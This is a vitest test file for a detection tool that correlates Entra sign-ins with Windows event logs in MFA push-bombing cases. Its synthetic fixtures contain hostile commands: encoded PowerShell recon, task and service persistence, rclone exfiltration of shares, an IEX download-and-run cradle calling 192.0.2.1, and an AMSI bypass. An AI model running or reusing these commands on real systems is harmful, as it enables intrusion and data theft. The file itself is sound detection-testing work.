import { describe, expect, it } from 'vitest';
import { HOUR } from '../../src/base/units';
import { incidentPicture } from '../../src/correlate/timeline-model';
import { textAt } from '../../src/model/event';
import { analyseFiles } from '../../src/pipeline/in-memory';
import { responseTo } from '../../src/respond/response';
import type { Act, Person, SampleFile } from '../../src/sample/acts';
import { layouts } from '../../src/sample/layouts';
import { prompted } from '../../src/sample/sign-ins';
import { A, baselineOf, colleague, H, ids, min, sec, series, tenant, user, withBaseline } from './cast';
import { phases, SCENARIO_START } from './scenario';
import { windowsJson, windowsLocalCsv, windowsXml, type WindowsEvent } from './windows-events';

/** Logs of the cloud and of Windows hosts in one case: what an intruder does on an endpoint stands with the person whose account it was. */

const login = (person: Person): string => person.upn.slice(0, person.upn.indexOf('@'));
const SID = 'S-1-5-21-1-2-3-1107';
const OTHER_SID = 'S-1-5-21-1-2-3-1108';
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

const subject = (person: Person, sid: string): Record<string, string> => ({
  SubjectUserSid: sid,
  SubjectUserName: login(person),
  SubjectDomainName: 'FIRM',
  SubjectLogonId: '0x51f3a',
});
const logon = (time: number, person: Person, sid: string, ip: string, type: string): WindowsEvent => ({
  time,
  id: 4624,
  data: {
    TargetUserSid: sid,
    TargetUserName: login(person),
    TargetDomainName: 'FIRM',
    TargetLogonId: '0x51f3a',
    LogonType: type,
    IpAddress: ip,
  },
});
const started = (time: number, person: Person, sid: string, path: string, line: string): WindowsEvent => ({
  time,
  id: 4688,
  data: { ...subject(person, sid), NewProcessName: path, NewProcessId: '0x1a2c', CommandLine: line },
});

/** What somebody does on a host after a remote desktop logon. */
function onEndpoint(t: number, person: Person, sid: string, ip: string): WindowsEvent[] {
  const guesses = Array.from({ length: 12 }, (_, i): WindowsEvent => ({
    time: t - min(30) + i * sec(20),
    id: 4625,
    data: {
      TargetUserName: login(person),
      TargetDomainName: 'FIRM',
      Status: '0xc000006d',
      SubStatus: '0xc000006a',
      LogonType: '3',
      IpAddress: ip,
    },
  }));
  return [
    ...guesses,
    logon(t + min(15), person, sid, ip, '10'),
    {
      time: t + min(15) + 40,
      id: 4672,
      data: { ...subject(person, sid), PrivilegeList: 'SeDebugPrivilege' },
    },
    started(
      t + min(18),
      person,
      sid,
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      `powershell -enc ${utf16('whoami /all; net group "Domain Admins"')}`,
    ),
    {
      time: t + min(20),
      id: 4698,
      data: {
        ...subject(person, sid),
        TaskName: '\\Updater',
        TaskContent:
          '<Task><Actions><Exec><Command>C:\\Users\\Public\\u.exe</Command></Exec></Actions></Task>',
      },
    },
    {
      time: t + min(22),
      id: 7045,
      provider: 'Service Control Manager',
      channel: 'System',
      sid,
      data: { ServiceName: 'UpdaterSvc', ImagePath: 'C:\\ProgramData\\u.exe', AccountName: 'LocalSystem' },
    },
    started(t + min(40), person, sid, 'C:\\ProgramData\\rclone.exe', 'rclone copy D:\\Shares remote:x'),
  ];
}

/** What the host and its own accounts do all day. */
function ofTheMachine(t: number): WindowsEvent[] {
  const system = { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'TS01$', SubjectDomainName: 'FIRM' };
  return [
    {
      time: t + min(16),
      id: 7045,
      provider: 'Service Control Manager',
      channel: 'System',
      sid: 'S-1-5-18',
      data: { ServiceName: 'Agent', ImagePath: 'C:\\ProgramData\\agent.exe', AccountName: 'LocalSystem' },
    },
    {
      time: t + min(17),
      id: 4688,
      data: {
        ...system,
        NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        CommandLine: `powershell -enc ${utf16('Get-ComputerInfo | Out-Null')}`,
      },
    },
    {
      time: t + min(17),
      id: 4624,
      data: {
        TargetUserSid: 'S-1-5-18',
        TargetUserName: 'TS01$',
        TargetDomainName: 'FIRM',
        LogonType: '3',
        IpAddress: A.ip,
      },
    },
  ];
}

const inOrder = (events: readonly WindowsEvent[]): WindowsEvent[] =>
  [...events].sort((a, b) => a.time - b.time);

function attack(t: number, person: Person): Act[] {
  const random = ids('windows');
  const acts = [
    ...series(random, t, sec(20), 6, 'denied', () => A),
    prompted(random, t + min(3), user, A, 'approved'),
  ];
  const own = acts.map((act) => ({ ...act, person }));
  return person === user
    ? withBaseline(random, t, own)
    : [...baselineOf(person, random.fork('other'), t, H), ...own];
}

const cloud = (acts: readonly Act[]): SampleFile => layouts['entra.signin.graph-json'](tenant, acts);
const host = (name: string, row: number, table: Parameters<typeof textAt>[0]): boolean =>
  textAt(table, 'user', row) === name.toLowerCase();

const writers = { xml: windowsXml, json: windowsJson } as const;

describe.each(Object.entries(writers))('the cloud and a Windows host, %s', (_, write) => {
  it('what the intruder did on the host stands in the stages of the person bombed, and nobody else’s does', async () => {
    for (const phase of phases) {
      const t = SCENARIO_START + phase;
      const events = inOrder([
        ...onEndpoint(t, user, SID, A.ip),
        ...ofTheMachine(t),
        // Somebody else works on the same host, from inside.
        logon(t + min(10), colleague, OTHER_SID, '10.1.2.3', '10'),
        started(t + min(41), colleague, OTHER_SID, 'C:\\Tools\\rclone.exe', 'rclone copy D:\\Own backup:x'),
      ]);
      const { sources, analysis } = await analyseFiles([
        cloud([...attack(t, user), ...baselineOf(colleague, ids('colleague'), t, H)]),
        write(events),
      ]);
      expect(sources.map(({ rejected }) => rejected)).toEqual([0, 0]);
      const { findings, incidents, table } = analysis;
      expect(incidents.map((incident) => incident.user)).toEqual([user.upn.toLowerCase()]);
      const incident = incidents[0]!;
      expect(incident).toMatchObject({ outcome: 'succeeded', severity: 'critical' });
      const of = (catalogue: string): string[] =>
        findings
          .filter((f) => f.catalogue === catalogue)
          .map((f) => `${f.severity} ${f.incident === incident.id ? 'in it' : 'apart'} ${f.count}`)
          .sort();
      expect(of('S1.1'), `phase ${phase} ms`).toEqual(['medium in it 12']);
      expect(of('S3.9')).toEqual(['high in it 1']);
      expect(of('S4.16')).toEqual(['high in it 3']);
      // The colleague's own copy is a lead by itself.
      expect(of('S5.8')).toEqual(['high in it 1', 'low apart 1']);
      const foothold = findings.find((f) => f.catalogue === 'S4.16')!;
      expect(foothold.why).toContain('whoami /all; net group "Domain Admins"');
      expect(foothold.techniques).toEqual(['T1053.005', 'T1059.001', 'T1543.003']);

      const { stageEvents, timeline } = incidentPicture(analysis, incident);
      const inStage = (stage: keyof typeof stageEvents): string[] =>
        stageEvents[stage]
          .map((row) => textAt(table, 'operation', row)?.split(' ')[0])
          .filter((id) => id !== undefined && /^\d+$/.test(id)) as string[];
      expect(inStage('recon')).toEqual(Array.from({ length: 12 }, () => '4625'));
      expect(inStage('push-bombing')).toEqual([]);
      expect(inStage('access')).toEqual(['4624', '4672']);
      expect(inStage('post-access')).toEqual(['4688', '4698', '7045']);
      expect(inStage('exfiltration')).toEqual(['4688']);
      expect(timeline.marks.map(({ label }) => label)).toContain(
        '4688 Process created: rclone.exe on TS01.firm.example',
      );
      expect(incident.attackerRows.filter((row) => host(login(colleague), row, table))).toEqual([]);
    }
  });

  it('the same host without anything in the cloud gives leads and no incident', async () => {
    const t = SCENARIO_START;
    const acts = withBaseline(ids('quiet'), t, []);
    const events = inOrder([...onEndpoint(t, user, SID, A.ip), ...ofTheMachine(t)]);
    const { analysis } = await analyseFiles([cloud(acts), write(events)]);
    expect(analysis.incidents).toEqual([]);
    expect([...new Set(analysis.findings.map(({ severity }) => severity))]).toEqual(['low']);
    expect(analysis.findings.map(({ catalogue }) => catalogue)).toEqual(['S1.1', 'S3.9', 'S4.16', 'S5.8']);
  });

  it('the host’s events of one person do not join another’s incident', async () => {
    const t = SCENARIO_START;
    const events = inOrder([...onEndpoint(t, user, SID, '192.0.2.77'), ...ofTheMachine(t)]);
    const { analysis } = await analyseFiles([cloud(attack(t, colleague)), write(events)]);
    const { findings, incidents, table } = analysis;
    expect(incidents.map((incident) => incident.user)).toEqual([colleague.upn.toLowerCase()]);
    expect(
      findings
        .filter(({ catalogue }) => /^S(?:1\.1|3\.9|4\.16|5\.8)$/.test(catalogue))
        .map((f) => f.incident),
    ).toEqual([null, null, null, null]);
    expect(incidents[0]!.attackerRows.filter((row) => host(login(user), row, table))).toEqual([]);
  });

  it('a day of work on the host is no finding', async () => {
    const t = SCENARIO_START;
    const events = inOrder([
      ...ofTheMachine(t),
      logon(t, user, SID, H.ip, '10'),
      logon(t + min(5), user, SID, '10.1.2.3', '3'),
      started(
        t + min(6),
        user,
        SID,
        'C:\\Windows\\System32\\rundll32.exe',
        'rundll32.exe shell32.dll,Control_RunDLL',
      ),
      started(
        t + min(7),
        user,
        SID,
        'C:\\Program Files\\PowerShell\\7\\pwsh.exe',
        'pwsh -ExecutionPolicy RemoteSigned -File C:\\Tools\\inventory.ps1',
      ),
    ]);
    const { analysis } = await analyseFiles([cloud(withBaseline(ids('day'), t, [])), write(events)]);
    expect(analysis.findings.map(({ catalogue, why }) => `${catalogue} ${why}`)).toEqual([]);
  });

  it('an approval from nowhere is no incident for what runs on the owner’s own computer, and one for what runs where its source went', async () => {
    const t = SCENARIO_START;
    const random = ids('twice');
    const acts = withBaseline(random, t, [
      ...series(random, t, sec(30), 2, 'denied', () => A),
      prompted(random, t + min(2), user, A, 'approved'),
    ]);
    const command = onEndpoint(t, user, SID, A.ip).filter(({ id }) => id === 4688);
    const entry = logon(t + min(15), user, SID, A.ip, '10');
    const own = await analyseFiles([cloud(acts), write(inOrder(command))]);
    expect(own.analysis.findings.map(({ catalogue }) => catalogue)).toEqual(
      expect.arrayContaining(['S3.2', 'S4.16', 'S5.8']),
    );
    expect(own.analysis.incidents).toEqual([]);
    const entered = await analyseFiles([cloud(acts), write(inOrder([entry, ...command]))]);
    expect(entered.analysis.incidents).toHaveLength(1);
  });

  it('PowerShell’s own log and a domain controller’s tell of the same person', async () => {
    const t = SCENARIO_START;
    const powershell = {
      provider: 'Microsoft-Windows-PowerShell',
      channel: 'Microsoft-Windows-PowerShell/Operational',
    };
    const script = (text: string, number: number): WindowsEvent => ({
      ...{ ...powershell, time: t + min(18), id: 4104, sid: SID },
      data: {
        ...{ MessageNumber: String(number), MessageTotal: '2' },
        ...{ ScriptBlockText: text, ScriptBlockId: '7f3c1b90-2ad1-4c55-9d0e-1c2b3a4d5e6f' },
      },
    });
    const refused = Array.from({ length: 12 }, (_, i): WindowsEvent => ({
      ...{ time: t - min(30) + i * sec(20) - 80, id: 4771, host: 'DC01.firm.example' },
      data: { TargetUserName: login(user), ServiceName: 'krbtgt/FIRM', Status: '0x18', IpAddress: A.ip },
    }));
    const events = inOrder([
      ...onEndpoint(t, user, SID, A.ip).filter(({ id }) => id === 4625 || id === 4624),
      ...refused,
      script('IEX (New-Object Net.WebClient).Down', 1),
      script("loadString('http://192.0.2.1/a')", 2),
      {
        ...{ ...powershell, time: t + min(19), id: 4103 },
        data: {
          ContextInfo: `        Host Application = powershell.exe\r\n        User = FIRM\\${login(user)}\r\n`,
          Payload: 'CommandInvocation(Out-Default): [x]::amsiInitFailed',
        },
      },
    ]);
    const { analysis } = await analyseFiles([cloud(attack(t, user)), write(events)]);
    const of = (catalogue: string) => analysis.findings.find((f) => f.catalogue === catalogue)!;
    const incident = analysis.incidents[0]!.id;
    expect(of('S1.1')).toMatchObject({ incident, count: 12 });
    expect(of('S1.1').evidence).toHaveLength(24);
    expect(of('S4.16')).toMatchObject({
      ...{ incident, severity: 'high', count: 2 },
      techniques: ['T1059.001', 'T1562.001'],
    });
    expect(of('S4.16').evidence).toHaveLength(3);
    expect(of('S4.16').why).toContain(
      "PowerShell script “IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')” (fetches code and runs it) run on TS01",
    );
  });

  it('the response plan lists the endpoint’s events', async () => {
    const t = SCENARIO_START;
    const { analysis } = await analyseFiles([
      cloud(attack(t, user)),
      write(inOrder(onEndpoint(t, user, SID, A.ip))),
    ]);
    const response = responseTo(analysis, analysis.incidents[0]!);
    const step = response.steps.find(({ id }) => id === 'endpoint')!;
    expect(step.said).toBe('6 events of the endpoint belong to this incident.');
  });
});

it('P32: times of a machine’s own clock, in a table beside UTC: the zone is asked, and the answer orders the timeline', async () => {
  const t = SCENARIO_START;
  // The logon follows the approval; read as UTC it would come four hours before it.
  const csv = windowsLocalCsv([{ time: t + min(15), user: login(user), ip: A.ip }], -4 * HOUR);
  const files = [cloud(attack(t, user)), csv];
  const asked = await analyseFiles(files);
  const source = asked.sources.find(({ name }) => name === csv.name)!;
  expect(source.questions.map((question) => JSON.stringify(question))).toHaveLength(1);
  expect(source.zone).toMatchObject({ known: 'assumed' });
  const { sources, analysis } = await analyseFiles([
    files[0]!,
    { ...csv, answers: { zone: 'America/New_York' } },
  ]);
  expect(sources.find(({ name }) => name === csv.name)!.zone).toMatchObject({ known: 'analyst' });
  const { timeline } = incidentPicture(analysis, analysis.incidents[0]!);
  const entry = timeline.marks.find(({ label }) => label.startsWith('4624'))!;
  expect(entry).toMatchObject({ stage: 'access', time: t + min(15) });
  expect(entry.time).toBeGreaterThan(timeline.anchor!);
  expect(analysis.findings.find(({ catalogue }) => catalogue === 'S3.9')).toMatchObject({
    incident: analysis.incidents[0]!.id,
  });
});
